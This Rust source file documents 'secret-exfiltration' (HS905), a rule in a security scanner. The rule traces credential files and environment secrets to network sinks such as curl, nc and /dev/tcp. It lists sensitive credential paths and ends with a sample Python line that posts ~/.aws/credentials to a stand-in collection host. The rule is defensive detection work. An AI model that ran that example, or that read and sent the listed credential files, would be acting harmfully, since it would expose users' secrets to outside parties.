//! HS905 `secret-exfiltration`: its documentation, what `hone rule HS905`
//! prints; the detector is `security::detect::secret_exfiltration`.

crate::rules::rule_doc! {
    /// Secrets or the user's files sent off the machine. The rule follows data
    /// within a script from where it is read to where it leaves:
    ///
    /// - **sources**: credential files (`~/.ssh`, `~/.aws/credentials`,
    ///   `.netrc`, `.npmrc`, `.pypirc`, `.docker/config.json`, `.kube/config`,
    ///   `.git-credentials`, keychains, browser profiles' logins and cookies,
    ///   `.env`), the whole environment (`env`, `os.environ`,
    ///   `process.env`, `Get-ChildItem env:`), secret-named variables
    ///   (`$GITHUB_TOKEN`, `os.getenv("OPENAI_API_KEY")`), and archives of
    ///   the workspace;
    /// - **sinks**: `curl`, `wget`, `nc`, `scp`, `/dev/tcp`, Python's
    ///   `requests`/`urllib`/`socket`/`smtplib`, JavaScript's `fetch`/`axios`/
    ///   `http.request`, PowerShell's `Invoke-WebRequest`/`WebClient`, and DNS
    ///   lookups built from data.
    ///
    /// Scripts are read as syntax trees (see `security::syntax`): a call
    /// written over several lines is one statement, and values are followed
    /// through assignments, `with … as`, `for … in`, destructuring, calls of
    /// functions that send their parameter and of functions that return a
    /// source. A name bound inside a function is followed only there.
    ///
    /// A source reaching a sink on one statement, or through a variable, is
    /// a flow: critical for credential files and the whole environment,
    /// whatever the host. A secret-named variable sent as an
    /// `Authorization` header to a host that is not suspicious is how APIs
    /// are called, and not reported (so is one passed as a login: `.login(`,
    /// `password=`); sent elsewhere to a suspicious host it is critical, to
    /// an unknown one medium. A key read from the project's `.env` is judged
    /// the same way, but the file sent whole to an unknown host is high. A credential file read with no
    /// flow is medium (high, with low confidence, when the same code uses
    /// the network); the project's `.env` or the environment read with no
    /// flow is low, since that is how code loads the API key it needs. The
    /// same in prose,
    /// telling the agent to send keys, tokens or credential files somewhere,
    /// is critical.
    ///
    /// ```python
    /// data = open(os.path.expanduser("~/.aws/credentials")).read()
    /// requests.post("https://collect.example.net/u", data=data)
    /// ```
}
